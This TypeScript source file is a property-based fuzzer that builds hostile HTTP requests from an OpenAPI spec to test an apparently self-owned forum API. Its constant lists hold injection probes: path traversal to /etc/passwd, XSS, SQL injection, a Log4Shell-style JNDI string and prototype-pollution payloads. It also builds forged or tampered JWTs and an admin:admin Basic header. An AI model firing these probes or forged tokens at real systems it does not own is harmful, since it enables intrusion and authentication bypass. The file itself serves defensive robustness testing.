import { randomUUID } from 'node:crypto';
import fc from 'fast-check';
import type { CallOptions } from '../client.ts';
import { decodeJwt, foreignSignedToken, tamperedToken, unsignedToken } from '../jwt.ts';
import type { JsonSchema, OpenApiDocument, Operation } from '../spec.ts';

/** What the fuzzer knows about the live stage when it builds requests. */
export interface FuzzFixtures {
  document: OpenApiDocument;
  /** A valid bearer token of a player created for the fuzz run. */
  token: string;
  /** An existing thread, so path fuzzing also reaches the "found" branch. */
  threadId: string;
}

/** One generated request and whether its Authorization header is anything but the valid token. */
export interface HostileRequest {
  options: CallOptions;
  forgedAuth: boolean;
}

// Header values must be ISO-8859-1 without control characters, or fetch refuses to send them.
const printable = fc.string({ unit: 'grapheme-ascii', maxLength: 48 });
const weirdHeaderValue = fc.oneof(
  printable,
  fc.string({ unit: 'grapheme-ascii', minLength: 120, maxLength: 400 }),
  fc.constantFrom(
    '',
    'null',
    'undefined',
    '../../etc/passwd',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    '%00',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style probe, on purpose not a template
    '${jndi:ldap://example.invalid/a}',
    'ümlaut-ä',
    'a'.repeat(1000),
  ),
);

/** Anything but the valid token: garbage, unsigned, foreign-signed or tampered JWTs, other schemes. */
function forgedAuthorization(token: string): fc.Arbitrary<string | undefined> {
  const claims = decodeJwt(token).payload;
  return fc.oneof(
    fc.constant(undefined),
    weirdHeaderValue,
    weirdHeaderValue.map((value) => `Bearer ${value}`),
    fc.constantFrom(
      `Bearer ${unsignedToken(claims)}`,
      `Bearer ${foreignSignedToken(claims)}`,
      `Bearer ${tamperedToken(token, { sub: randomUUID() })}`,
      `Bearer ${tamperedToken(token, { exp: 4102444800 })}`,
      `Bearer ${token}.extra`,
      `Basic ${Buffer.from('admin:admin').toString('base64')}`,
      `Token ${token}`,
    ),
  );
}

function authorization(
  fixtures: FuzzFixtures,
): fc.Arbitrary<{ value: string | undefined; forged: boolean }> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.constant({ value: `Bearer ${fixtures.token}`, forged: false }) },
    {
      weight: 2,
      arbitrary: forgedAuthorization(fixtures.token).map((value) => ({ value, forged: true })),
    },
  );
}

// One character of any kind: a printable grapheme (often an emoji, or several code points), or
// any code point at all (control characters and the astral planes included) except U+0000.
const storableCharacter = fc.oneof(
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }).filter((c) => c !== '\u0000'),
  fc.integer({ min: 0x1_0000, max: 0x10_ffff }).map((codePoint) => String.fromCodePoint(codePoint)),
);

/**
 * Text the API must store and return unchanged: well-formed Unicode without U+0000, astral
 * characters (emoji, surrogate pairs) included. At most `maxLength` characters, counted as
 * JSON Schema's maxLength counts them: in code points, so an emoji is one, not two.
 */
export function storableText({ maxLength }: { maxLength: number }): fc.Arbitrary<string> {
  return fc
    .string({ unit: storableCharacter, maxLength: Math.ceil(maxLength / 2) })
    .filter((text) => [...text].length <= maxLength);
}

/** The characters JSON can carry and a database `text` column cannot store as sent. */
const unstorableCharacter = fc.oneof(
  fc.constant('\u0000'),
  fc.integer({ min: 0xd800, max: 0xdbff }).map((unit) => String.fromCharCode(unit)),
  fc.integer({ min: 0xdc00, max: 0xdfff }).map((unit) => String.fromCharCode(unit)),
);

/**
 * Text with a NUL or a lone UTF-16 surrogate somewhere in it. The space after the bad character
 * keeps a high surrogate lone: a low one right after it would make a valid pair.
 */
export const unstorableText: fc.Arbitrary<string> = fc
  .tuple(storableText({ maxLength: 20 }), unstorableCharacter, storableText({ maxLength: 20 }))
  .map(([before, bad, after]) => `${before}${bad} ${after}`);

/** Follows a `#/components/schemas/X` reference. */
function resolveSchema(schema: JsonSchema, document: OpenApiDocument): JsonSchema {
  if (typeof schema.$ref !== 'string') return schema;
  return document.components.schemas[schema.$ref.split('/').pop() ?? ''] ?? {};
}

function fieldsOf(schema: JsonSchema, document: OpenApiDocument): string[] {
  return Object.keys(propertiesOf(schema, document));
}

function propertySchema(schema: JsonSchema, field: string, document: OpenApiDocument): JsonSchema {
  return resolveSchema(propertiesOf(schema, document)[field] ?? {}, document);
}

function propertiesOf(schema: JsonSchema, document: OpenApiDocument): Record<string, JsonSchema> {
  return (resolveSchema(schema, document).properties ?? {}) as Record<string, JsonSchema>;
}

/** Values of roughly the right shape, from the request schema, so some requests get through. */
function fromSchema(schema: JsonSchema, document: OpenApiDocument): fc.Arbitrary<unknown> {
  if (typeof schema.$ref === 'string') return fromSchema(resolveSchema(schema, document), document);
  switch (schema.type) {
    case 'object': {
      const properties = (schema.properties ?? {}) as Record<string, JsonSchema>;
      const shape = Object.fromEntries(
        Object.entries(properties).map(([name, property]) => [
          name,
          fromSchema(property, document),
        ]),
      );
      return fc.record(shape, { requiredKeys: (schema.required ?? []) as string[] });
    }
    case 'string': {
      const maxLength = Math.min(Number(schema.maxLength ?? 64), 300);
      const text =
        typeof schema.pattern === 'string'
          ? fc.stringMatching(new RegExp(schema.pattern))
          : fc.oneof(
              fc.string({ unit: 'grapheme', minLength: Number(schema.minLength ?? 0), maxLength }),
              storableText({ maxLength }),
            );
      return fc.oneof({ weight: 5, arbitrary: text }, { weight: 1, arbitrary: unstorableText });
    }
    case 'integer': {
      const min = Number(schema.minimum ?? -100);
      return fc.integer({ min: min - 2, max: Number(schema.maximum ?? min + 30) + 2 });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** Every documented field with a value of any JSON type. */
function wrongTypes(fields: string[]): fc.Arbitrary<unknown> {
  return fc.record(
    Object.fromEntries(fields.map((field) => [field, fc.jsonValue({ maxDepth: 2 })])),
  );
}

/** JSON text with keys that poison naive object merging (__proto__, constructor, prototype). */
function prototypePollution(valid: fc.Arbitrary<unknown>): fc.Arbitrary<string> {
  return fc
    .tuple(
      valid,
      fc.constantFrom('__proto__', 'constructor', 'prototype'),
      fc.constantFrom(
        { polluted: true, isAdmin: true },
        { prototype: { polluted: true } },
        { toString: 'x', valueOf: 1, hasOwnProperty: null },
      ),
    )
    .map(([value, key, payload]) => {
      const fields =
        typeof value === 'object' && value !== null ? JSON.stringify(value).slice(1, -1) : '';
      return `{${JSON.stringify(key)}:${JSON.stringify(payload)}${fields ? `,${fields}` : ''}}`;
    });
}

/** Up to ~30 KB of nesting: under the size limit, deep enough to break recursive code. */
const deepNesting = fc
  .tuple(fc.integer({ min: 50, max: 4800 }), fc.constantFrom('array', 'object', 'field'))
  .map(([depth, kind]) => {
    if (kind === 'array') return `${'['.repeat(depth)}${']'.repeat(depth)}`;
    if (kind === 'object') return `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
    return `{"title":${'['.repeat(depth)}${']'.repeat(depth)},"body":"x","bet":1}`;
  });

/** Strings around and beyond the 32 KiB limit, in one- and two-byte characters. */
function hugeStrings(fields: string[]): fc.Arbitrary<string> {
  return fc
    .tuple(
      fc.constantFrom(...fields, 'padding'),
      fc.integer({ min: 5_000, max: 40_000 }),
      fc.constantFrom('x', 'é'),
    )
    .map(([field, length, char]) => JSON.stringify({ [field]: char.repeat(length) }));
}

const notJson = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 80 }),
  fc.constantFrom(
    '',
    '{',
    '[',
    '{"a":}',
    'nul',
    'NaN',
    'Infinity',
    "{'single': 'quotes'}",
    '{"bet": 1e400}',
    '{"bet": -0}',
    '{"bet": 9007199254740993}',
    '{"bet": 1, "bet": "one"}',
    '\u0000',
    '\ufeff{}',
  ),
);

const contentTypes = fc.oneof(
  { weight: 6, arbitrary: fc.constant('application/json') },
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json; charset=latin1',
      'application/merge-patch+json',
      'text/plain',
      'text/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=fuzz',
      'application/xml',
      'application/octet-stream',
      'application/jsonx',
      ';;;',
    ),
  },
  { weight: 1, arbitrary: fc.constant(null) },
);

function body(operation: Operation, document: OpenApiDocument) {
  const schema = operation.requestSchema ?? {};
  const valid = fromSchema(schema, document);
  const fields = fieldsOf(schema, document);
  return fc.oneof(
    { weight: 3, arbitrary: valid.map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: wrongTypes(fields).map((value) => JSON.stringify(value)) },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)) },
    { weight: 1, arbitrary: prototypePollution(valid) },
    { weight: 1, arbitrary: deepNesting },
    { weight: 1, arbitrary: hugeStrings(fields) },
    { weight: 2, arbitrary: notJson },
  );
}

const queryValue = fc.oneof(
  fc.integer({ min: -10, max: 150 }).map(String),
  printable.map(encodeURIComponent),
  fc.constantFrom(
    '%ZZ',
    '%',
    '%E0%A4%A',
    '%00',
    '1e1',
    '0x10',
    '99999999999999999999999',
    '',
    'a'.repeat(1000),
  ),
);

function query(names: string[]): fc.Arbitrary<string> {
  const keys = fc.constantFrom(
    ...names,
    'unknown',
    '__proto__',
    'limit[]',
    'cursor[a]',
    'constructor',
  );
  return fc.oneof(
    fc.integer({ min: -5, max: 150 }).map((limit) => `limit=${limit}`),
    fc
      .array(fc.tuple(keys, queryValue), { maxLength: 4 })
      .map((pairs) => pairs.map(([key, value]) => `${encodeURIComponent(key)}=${value}`).join('&')),
    fc.constantFrom('limit=1&limit=2', 'limit', 'limit=', '=', '&&&', '?', 'limit=1;cursor=2'),
  );
}

function pathId(fixtures: FuzzFixtures): fc.Arbitrary<string> {
  // Returned already percent-encoded. "." and ".." are left out: URL normalisation would turn
  // /api/threads/.. into another route, which is not what this property is about.
  return fc.oneof(
    fc.constant(fixtures.threadId),
    fc.uuid().map(encodeURIComponent),
    fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 80 })
      .filter((id) => id !== '.' && id !== '..')
      .map(encodeURIComponent),
    fc.constantFrom(
      '%E0%A4%A',
      '%ZZ',
      '%00',
      '%2F',
      'a'.repeat(2000),
      "'%20OR%201=1--",
      '00000000-0000-0000-0000-000000000000',
      fixtures.threadId.toUpperCase(),
      `${fixtures.threadId}%00`,
      `${fixtures.threadId}%20`,
      `${fixtures.threadId}x`,
    ),
  );
}

/** A hostile request for one operation, shaped by what the operation accepts in openapi.yaml. */
export function hostileRequest(
  operation: Operation,
  fixtures: FuzzFixtures,
): fc.Arbitrary<HostileRequest> {
  const queryNames = operation.parameters.filter((p) => p.in === 'query').map((p) => p.name);
  const hasPathId = operation.parameters.some((p) => p.in === 'path');
  const takesIdempotencyKey = operation.parameters.some((p) => p.name === 'Idempotency-Key');
  const takesBody = operation.requestSchema !== undefined;
  return fc
    .record({
      auth: authorization(fixtures),
      requestId: fc.option(
        fc.oneof(weirdHeaderValue, fc.stringMatching(/^[A-Za-z0-9._:-]{1,128}$/)),
        {
          nil: null,
        },
      ),
      body: takesBody
        ? fc.option(body(operation, fixtures.document), { nil: undefined })
        : fc.constant(undefined),
      contentType: takesBody ? contentTypes : fc.constant(undefined),
      query:
        queryNames.length > 0
          ? fc.option(query(queryNames), { nil: undefined })
          : fc.constant(undefined),
      id: hasPathId ? pathId(fixtures) : fc.constant(undefined),
      idempotencyKey: takesIdempotencyKey
        ? fc.option(fc.oneof(weirdHeaderValue, fc.stringMatching(/^[A-Za-z0-9_.:-]{1,128}$/)), {
            nil: undefined,
          })
        : fc.constant(undefined),
    })
    .map(({ auth, requestId, body, contentType, query, id, idempotencyKey }) => {
      const headers: Record<string, string> = {};
      if (auth.value !== undefined) headers.authorization = auth.value;
      if (idempotencyKey !== undefined) headers['idempotency-key'] = idempotencyKey;
      const options: CallOptions = { requestId, headers };
      if (body !== undefined) options.body = body;
      if (contentType !== undefined) options.contentType = contentType;
      if (query !== undefined) options.query = query;
      if (id !== undefined) options.rawParams = { id };
      return { options, forgedAuth: auth.forged };
    });
}

/** A body whose text a database cannot store, and the field a 422 must name ("" for the body). */
export interface UnstorableBody {
  body: string;
  path: string;
}

/**
 * A body of the operation's shape with a NUL or a lone surrogate in one place: a documented text
 * field, a field the API ignores, or a property name (named at the body itself, path "").
 */
export function unstorableBody(
  operation: Operation,
  document: OpenApiDocument,
): fc.Arbitrary<UnstorableBody> {
  const schema = operation.requestSchema ?? {};
  const textFields = fieldsOf(schema, document).filter(
    (field) => propertySchema(schema, field, document).type === 'string',
  );
  const valid = fromSchema(schema, document).map((value) =>
    typeof value === 'object' && value !== null ? value : {},
  );
  return fc
    .tuple(valid, fc.constantFrom(...textFields, 'note', ''), unstorableText)
    .map(([value, field, text]) =>
      field === ''
        ? { body: JSON.stringify({ ...value, [text]: 'x' }), path: '' }
        : { body: JSON.stringify({ ...value, [field]: text }), path: field },
    );
}

/** A thread's title and first post, and a reply, in any well-formed text within the limits. */
export function storableForumText(): fc.Arbitrary<{ title: string; body: string; reply: string }> {
  // Brackets around the text: titles and post bodies are trimmed, and this property is about
  // characters being kept, not about trimming.
  const bracketed = (maxLength: number) =>
    storableText({ maxLength: maxLength - 2 }).map((text) => `[${text}]`);
  return fc.record({ title: bracketed(120), body: bracketed(600), reply: bracketed(600) });
}

/** Paths no operation has, and documented paths with methods they do not support. */
export function unknownRoute(
  document: OpenApiDocument,
): fc.Arbitrary<{ method: string; path: string }> {
  const documented = Object.entries(document.paths).flatMap(([path, item]) =>
    ['GET', 'POST', 'PUT', 'PATCH', 'DELETE']
      .filter((method) => !(method.toLowerCase() in item))
      .map((method) => ({ method, path: path.replace('{id}', randomUUID()) })),
  );
  return fc.oneof(
    fc.constantFrom(...documented),
    fc.record({
      method: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE'),
      path: fc
        .array(
          fc
            .string({ unit: 'grapheme', minLength: 1, maxLength: 12 })
            .filter((s) => s !== '.' && s !== '..'),
          {
            minLength: 1,
            maxLength: 4,
          },
        )
        .map((segments) => `/api/fuzz-${segments.map(encodeURIComponent).join('/')}`),
    }),
  );
}
